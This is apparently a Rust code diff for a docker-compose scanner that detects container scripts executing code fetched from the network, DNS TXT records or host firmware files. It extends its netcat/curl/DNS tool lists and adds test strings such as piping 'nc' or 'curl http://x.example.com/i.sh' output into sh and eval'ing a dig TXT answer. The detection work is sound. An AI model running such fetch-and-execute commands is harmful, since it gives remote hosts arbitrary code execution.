@@ -14,9 +14,11 @@ pub(in crate::compose::docker_compose) const HOST_DATA: &str = "host data:";
 /// The variable of a container that holds its host name.
 pub(in crate::compose::docker_compose) const HOSTNAME: &str = "HOSTNAME";
 
-/// Files that show a container what the firmware says.
-const FIRMWARE: [&str; 4] = [
+/// Files that show a container what the firmware and the disks say.
+const FIRMWARE: [&str; 6] = [
     "/proc/device-tree",
+    "/sys/block/",
+    "/sys/class/block/",
     "/sys/class/dmi",
     "/sys/devices/virtual/dmi",
     "/sys/firmware",
@@ -27,8 +29,10 @@ const NAMES: [&str; 2] = ["/etc/hostname", "/proc/sys/kernel/hostname"];
 const CLIENTS: [&str; 12] = [
     "aria2c", "curl", "fetch", "ftp", "http", "lftp", "links", "lynx", "tftp", "w3m", "wget", "xh",
 ];
-/// Programs that show what another machine sends, whoever it is.
-const CONNECTIONS: [&str; 4] = ["nc", "ncat", "netcat", "telnet"];
+/// Programs that show what another machine sends, whoever it is, or what the host's resolver answers.
+const CONNECTIONS: [&str; 8] = [
+    "dig", "drill", "kdig", "nc", "ncat", "netcat", "nslookup", "telnet",
+];
 /// Options by which a program does not look at who answers, or who signed what it brings.
 const UNCHECKED: [&str; 11] = [
     "--allow-insecure-repositories",
@@ -107,10 +111,14 @@ impl Addresses {
                 false => self.unprotected.remove(name),
             };
         }
-        let programs = words.iter().enumerate();
-        let programs =
-            programs.map(|(at, word)| (base_name(&word.text), words.get(at + 1..).unwrap_or_default()));
-        for (name, arguments) in programs {
+        // The first place of a name has all the arguments of the others.
+        let mut seen = BTreeSet::new();
+        for (at, word) in words.iter().enumerate() {
+            let name = base_name(&word.text);
+            if !seen.insert(name) {
+                continue;
+            }
+            let arguments = words.get(at + 1..).unwrap_or_default();
             if self.brings(name, arguments) {
                 return Some(HOST_DATA);
             }
@@ -170,7 +178,7 @@ fn is_unchecked(name: &str, arguments: &[Word]) -> bool {
 }
 
 /// Whether a word is an address at which nobody shows who answers: no TLS, and a machine that is not this one or a container beside it.
-fn is_unprotected(word: &str) -> bool {
+pub(in crate::compose::docker_compose) fn is_unprotected(word: &str) -> bool {
     const SCHEMES: [&str; 6] = ["ftp", "git", "http", "rsync", "svn", "tftp"];
     address(word).is_some_and(|(scheme, host)| SCHEMES.contains(&scheme.as_str()) && is_machine(host))
 }
@@ -284,6 +292,9 @@ mod tests {
             "npm config set registry http://npm.example.com; npm ci",
             "nc -l -p 9000 | sh",
             "nc x.example.com 9000 | sh",
+            "eval $(dig +short TXT cmd.example.com)",
+            "eval \"$(cat /sys/block/vda/serial)\"",
+            "sudo -u git curl http://x.example.com/i.sh | sh",
             "eval \"$(cat /sys/class/dmi/id/product_serial)\"",
         ] {
             assert!(executes(script), "{script}");
